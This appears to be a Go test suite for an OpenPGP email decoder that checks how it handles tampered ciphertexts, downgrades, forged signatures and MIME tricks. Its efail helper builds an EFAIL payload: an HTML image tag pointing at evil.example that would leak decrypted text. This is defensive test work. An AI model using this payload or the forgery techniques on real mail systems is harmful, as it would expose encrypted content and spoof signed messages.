package crypto_test

import (
	"bytes"
	"compress/zlib"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"almasu/crypto"
	"almasu/exchange"
)

func zipped(packets []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write(packets)
	_ = w.Close()
	return pkt(8, []byte{2}, b.Bytes())
}

// wanted are the facts an attack must end in.
type wanted struct {
	encrypted, decrypts bool
	signature           exchange.SignatureState
	covers              exchange.Coverage
	owner               string
	payload             bool
}

var (
	goodFacts    = wanted{true, true, exchange.SignatureValid, exchange.CoversAll, "soc-alfa", true}
	undecrypted  = wanted{true, false, exchange.SignatureNone, exchange.CoversNone, "", false}
	unsignedFact = wanted{true, true, exchange.SignatureNone, exchange.CoversNone, "", true}
	invalidAll   = wanted{true, true, exchange.SignatureIsInvalid, exchange.CoversAll, "soc-alfa", true}
	partialFact  = wanted{true, true, exchange.SignatureIsPartial, exchange.CoversPart, "soc-alfa", true}
	clearFact    = wanted{false, true, exchange.SignatureNone, exchange.CoversNone, "", false}
)

func checkFacts(t *testing.T, o crypto.Opened, w wanted) {
	t.Helper()
	s := o.Security
	got := wanted{s.Encrypted, s.DecryptError == "", s.Signature, s.Covers, s.Owner, len(o.Payload) > 0}
	if got != w {
		t.Fatalf("got  %+v\nwant %+v\n%+v", got, w, s)
	}
}

// damaged turns over one bit, counted from the end.
func damaged(b []byte, fromEnd int) []byte {
	out := bytes.Clone(b)
	out[len(out)-fromEnd] ^= 4
	return out
}

// attack is one message an attacker sends, and the same message left alone.
type attack struct {
	name    string
	control string // must be good
	attack  string
	want    wanted
}

func attacks() []attack {
	c := people()
	good := by(c.alfa).message(entity())
	mime := func(packets []byte) string { return pgpMIME(toUs(packets)) }
	inner := signedMIME(entity(), by(c.alfa).packet(entity()))
	changed := strings.Replace(entity(), "R-1", "R-2", 1)
	control := mime(good)
	two := armored("PGP MESSAGE", sealedReport())
	bad := func(name, message string, want wanted) attack { return attack{name, control, message, want} }
	return []attack{
		bad("one bit of the ciphertext", pgpMIME(damaged(toUs(good), 60)), undecrypted),
		bad("one bit of the MDC", pgpMIME(damaged(toUs(good), 2)), undecrypted),
		bad("ciphertext cut off", pgpMIME(toUs(good)[:len(toUs(good))-200]), undecrypted),
		bad("MDC cut off, length corrected", pgpMIME(withoutMDC(good)), undecrypted),
		bad("tag 9 around tag 18 ciphertext", pgpMIME(asUnprotected(good)), wanted{true, true, exchange.SignatureNone, exchange.CoversNone, "", false}),
		bad("AEAD chunk changed", pgpMIME(damaged(aead(good), 100)), undecrypted),
		bad("AEAD final tag changed", pgpMIME(damaged(aead(good), 1)), undecrypted),
		bad("AEAD under a session key packet of version 3", pgpMIME(sealAEAD(good, false)), undecrypted),
		bad("something follows the encrypted packet", pgpMIME(append(toUs(good), literal(entity())...)), undecrypted),
		bad("a second encrypted message follows", pgpMIME(append(toUs(good), toUs(good)...)), undecrypted),
		bad("a session key, then a literal", pgpMIME(keyThen(literal(entity()))), undecrypted),
		bad("a session key, then a signed message", pgpMIME(keyThen(good)), undecrypted),
		bad("an unsupported session key, then a signed message", pgpMIME(append(pkt(1, []byte{9, 1, 2, 3}), good...)), undecrypted),
		bad("a passphrase session key, then a signed message", pgpMIME(append(pkt(3, []byte{4, 9, 0, 8}), good...)), undecrypted),
		bad("multipart/encrypted around a signed message", pgpMIME(good), wanted{false, true, exchange.SignatureValid, exchange.CoversAll, "soc-alfa", false}),
		bad("multipart/encrypted around a marker and a literal", pgpMIME(append(pkt(10, []byte("PGP")), literal(entity())...)), clearFact),
		bad("two literals", mime(append(bytes.Clone(good), literal(entity())...)), undecrypted),
		bad("an unsigned literal before the signed one", mime(append(literal(entity()), good...)), undecrypted),
		bad("packets swapped: signature, one-pass, literal", mime(swapped(c.alfa, entity())), undecrypted),
		bad("a compressed packet beside a literal", mime(append(zipped(good), literal(entity())...)), undecrypted),
		bad("encrypted in encrypted", mime(toUs(good)), undecrypted),
		bad("a key packet inside", mime(append(keyPacket(c.alfa), good...)), undecrypted),
		bad("announced signature left out", mime(good[:len(good)-len(by(c.alfa).packet(entity()))]), wanted{true, true, exchange.SignatureIsInvalid, exchange.CoversAll, "", true}),
		bad("content changed under the signature", mime(bytes.Replace(good, []byte("R-1"), []byte("R-2"), 1)), invalidAll),
		bad("signature over something else", mime(append(literal(entity()), by(c.alfa).packet("words")...)), invalidAll),
		bad("nested signature over something else", mime(literal(signedMIME(changed, by(c.alfa).packet(entity())))), invalidAll),
		bad("signature of another key under our key ID", mime(append(literal(entity()), forged(c)...)), invalidAll),
		bad("unsigned", mime(literal(entity())), unsignedFact),
		bad("signed by a stranger", mime(by(c.stranger).message(entity())), wanted{true, true, exchange.SignatureUnknownSigner, exchange.CoversAll, "", true}),
		bad("the stranger's key travels along", mime(literal(signedMIME(withKey(c.none.public), by(c.stranger).packet(withKey(c.none.public))))),
			wanted{true, true, exchange.SignatureUnknownSigner, exchange.CoversAll, "", true}),
		bad("signed part beside an unsigned report", mime(literal(beside(inner))), partialFact),
		bad("a third part in multipart/signed", mime(literal(strings.Replace(inner, "\r\n--sig--", "\r\n--sig\r\nContent-Type: application/json\r\n\r\n{}\r\n--sig--", 1))), partialFact),
		bad("text before a cleartext signature", mime(literal("Content-Type: text/plain\r\n\r\n{}\r\n"+clearSigned(report, signing{by: c.alfa, text: true}))), partialFact),
		bad("text between Hash header and signed text", mime(literal("Content-Type: text/plain\r\n\r\n"+
			strings.Replace(clearSigned(report, signing{by: c.alfa, text: true}), "\n\n", "\nReport: {}\n\n", 1))), unsignedFact),
		bad("unsigned attachment", attachment("report.json.pgp", toUs(literal(report))), wanted{true, true, exchange.SignatureNone, exchange.CoversNone, "", false}),
		bad("attachment of a stranger", attachment("report.json.pgp", toUs(by(c.stranger).message(report))),
			wanted{true, true, exchange.SignatureUnknownSigner, exchange.CoversAll, "", false}),
		bad("attachment changed", attachment("report.json.pgp", damaged(sealedReport(), 30)), undecrypted),
		bad("unsigned attachment beside the signed one", attachment("report.json.pgp", sealedReport(),
			strings.TrimSuffix(attachment("other.json.pgp", toUs(literal(report)))[len("Content-Type: multipart/mixed; boundary=mix\r\n\r\n--mix\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--mix\r\n"):], "\r\n--mix--\r\n")),
			wanted{true, true, exchange.SignatureIsPartial, exchange.CoversPart, "soc-alfa", false}),
		bad("two armor blocks in one text", "Content-Type: text/plain\r\n\r\n"+two+two, undecrypted),
		bad("outside signature by Beta around Alfa's unsigned ciphertext", outsideSigned(c.beta, pgpMIME(toUs(literal(entity())))),
			wanted{true, true, exchange.SignatureValid, exchange.CoversPart, "soc-beta", true}),
		bad("outside signature broken", strings.Replace(outsideSigned(c.alfa, pgpMIME(toUs(literal(entity())))), "Version: 1", "Version: 2", 1),
			wanted{true, true, exchange.SignatureIsInvalid, exchange.CoversPart, "soc-alfa", true}),
		bad("sealed to somebody else", pgpMIME(encryptedTo(good, c.beta)), undecrypted),
		bad("EFAIL: a leading unclosed image part", efail(pgpMIME(toUs(literal(entity())))), wanted{true, true, exchange.SignatureNone, exchange.CoversNone, "", false}),
		bad("begin mark damaged", strings.Replace(control, "-----BEGIN PGP MESSAGE-----", "-----BEGIN PGP MESAGE-----", 1), undecrypted),
		bad("empty ciphertext", strings.Replace(control, strings.TrimSpace(armored("PGP MESSAGE", toUs(good))), "", 1), undecrypted).emptied(),
	}
}

// emptied replaces the ciphertext by nothing.
func (a attack) emptied() attack {
	a.attack = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=enc\r\n\r\n" +
		"--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n\r\n--enc--\r\n"
	return a
}

// TestAttacks sends each attack and, as the control, the message it was made
// from: a check that refuses everything would pass the first half alone.
func TestAttacks(t *testing.T) {
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			checkFacts(t, open(t, mail(a.control)), goodFacts)
			o := open(t, mail(a.attack))
			checkFacts(t, o, a.want)
			if o.Security.Signature == exchange.SignatureValid && o.Security.Covers == exchange.CoversAll && o.Security.Encrypted {
				t.Error("the attack ends in a valid message")
			}
		})
	}
}

// withoutMDC encrypts as with MDC and leaves the MDC packet out.
func withoutMDC(packets []byte) []byte {
	full := toUs(append(bytes.Clone(packets), make([]byte, 64)...))
	return full[:len(full)-22]
}

// asUnprotected puts the header of tag 9 before CFB ciphertext.
func asUnprotected(packets []byte) []byte {
	return sessionTo(newSession(), []*openpgp.Entity{people().self}, func(session []byte) []byte {
		var b bytes.Buffer
		w, err := packet.SerializeSymmetricallyEncrypted(closer{&b}, packet.CipherAES256, false, packet.CipherSuite{}, session, nil)
		if err != nil {
			panic(err)
		}
		_, _ = w.Write(packets)
		_ = w.Close()
		return pkt(9, b.Bytes()[8:])
	})
}

// aead encrypts with SEIPD version 2 and OCB.
func aead(packets []byte) []byte { return sealAEAD(packets, true) }

func sealAEAD(packets []byte, version6 bool) []byte {
	self := people().self
	session := newSession()
	var b bytes.Buffer
	config := &packet.Config{AEADConfig: &packet.AEADConfig{}}
	if err := packet.SerializeEncryptedKeyAEAD(&b, self.Subkeys[0].PublicKey, packet.CipherAES256, version6, session, config); err != nil {
		panic(err)
	}
	w, err := packet.SerializeSymmetricallyEncrypted(closer{&b}, packet.CipherAES256, true,
		packet.CipherSuite{Cipher: packet.CipherAES256, Mode: packet.AEADModeOCB}, session, config)
	if err != nil {
		panic(err)
	}
	_, _ = w.Write(packets)
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// keyThen is a session key packet for us before packets that need none.
func keyThen(packets []byte) []byte {
	return sessionTo(newSession(), []*openpgp.Entity{people().self}, func([]byte) []byte { return packets })
}

func swapped(e *openpgp.Entity, content string) []byte {
	m := by(e).message(content)
	ops := m[:len(m)-len(literal(content))-len(by(e).packet(content))]
	return bytes.Join([][]byte{literal(content), ops, by(e).packet(content)}, nil)
}

func keyPacket(e *openpgp.Entity) []byte {
	var b bytes.Buffer
	if err := e.PrimaryKey.Serialize(&b); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// forged is a signature by the stranger that names SOC Alfa's key.
func forged(c *cast) []byte {
	return signing{by: c.stranger, edit: func(s *packet.Signature) {
		s.Notations = nil
	}}.renamed(c.alfa)
}

func (s signing) renamed(as *openpgp.Entity) []byte {
	b := s.packet(entity())
	b = bytes.ReplaceAll(b, s.by.PrimaryKey.Fingerprint, as.PrimaryKey.Fingerprint)
	return bytes.ReplaceAll(b, s.by.PrimaryKey.Fingerprint[12:], as.PrimaryKey.Fingerprint[12:])
}

func withKey(public []byte) string {
	return strings.Replace(entity(), "--in--", "--in\r\nContent-Type: application/pgp-keys\r\n\r\n"+string(public)+"\r\n--in--", 1)
}

func beside(signed string) string {
	return "Content-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\n" + signed +
		"\r\n--out\r\nContent-Type: application/json\r\n\r\n{}\r\n--out--\r\n"
}

func outsideSigned(e *openpgp.Entity, inner string) string {
	return signedMIME(inner, by(e).packet(inner))
}

// efail wraps a ciphertext between the halves of an HTML image.
func efail(inner string) string {
	return "Content-Type: multipart/mixed; boundary=leak\r\n\r\n--leak\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--leak\r\n" +
		inner + "\r\n--leak\r\nContent-Type: text/html\r\n\r\n\">\r\n--leak--\r\n"
}

// TestAEADOpens is the positive control of the two AEAD attacks.
func TestAEADOpens(t *testing.T) {
	o := open(t, mail(pgpMIME(aead(by(people().alfa).message(entity())))))
	checkFacts(t, o, goodFacts)
	if o.Security.Cipher != "aes256-ocb" {
		t.Error(o.Security.Cipher)
	}
}

// TestNoIntegrityIsNotDecrypted: the cipher is known, the content is not.
func TestNoIntegrityIsNotDecrypted(t *testing.T) {
	s := open(t, mail(pgpMIME(asUnprotected(by(people().alfa).message(entity()))))).Security
	if !s.Encrypted || s.Integrity || s.Cipher != "aes256-cfb" || s.DecryptError != "" || s.Signed {
		t.Errorf("%+v", s)
	}
}

// TestAuthenticatedSilence: nothing decrypted shows in what an operator reads.
func TestAuthenticatedSilence(t *testing.T) {
	for _, a := range attacks() {
		o := open(t, mail(a.attack))
		for _, text := range append(o.Security.Findings, o.Security.DecryptError, o.Refusal.Reason, o.Security.Cipher) {
			if strings.Contains(text, "report_id") || strings.Contains(text, "R-1") || strings.Contains(text, "words") {
				t.Errorf("%s: decrypted text in %q", a.name, text)
			}
		}
	}
}

func TestSignatureOfTheFutureIsNotExpired(t *testing.T) {
	o := open(t, mail(pgpMIME(toUs(signing{by: people().alfa, at: now.Add(5 * time.Minute)}.message(entity())))))
	checkFacts(t, o, goodFacts)
}

func TestWeakHashes(t *testing.T) {
	c := people()
	for name, raw := range map[string][]byte{
		"sha1":      rehashed(c.alfa, 2),
		"md5":       rehashed(c.alfa, 1),
		"ripemd160": rehashed(c.alfa, 3),
	} {
		t.Run(name, func(t *testing.T) {
			o := open(t, mail(pgpMIME(toUs(raw))))
			want := exchange.SignatureWeak
			if name == "sha1" { // computed, and wrong
				want = exchange.SignatureIsInvalid
			}
			if s := o.Security; s.Signature != want || s.Hash != name || s.Owner != "soc-alfa" {
				t.Errorf("%+v", s)
			}
		})
	}
}

// rehashed claims another hash in a signature packet.
func rehashed(e *openpgp.Entity, id byte) []byte {
	sig := by(e).packet(entity())
	at := bytes.IndexByte(sig, 4) // version octet, after the short header
	sig[at+3] = id
	return append(literal(entity()), sig...)
}
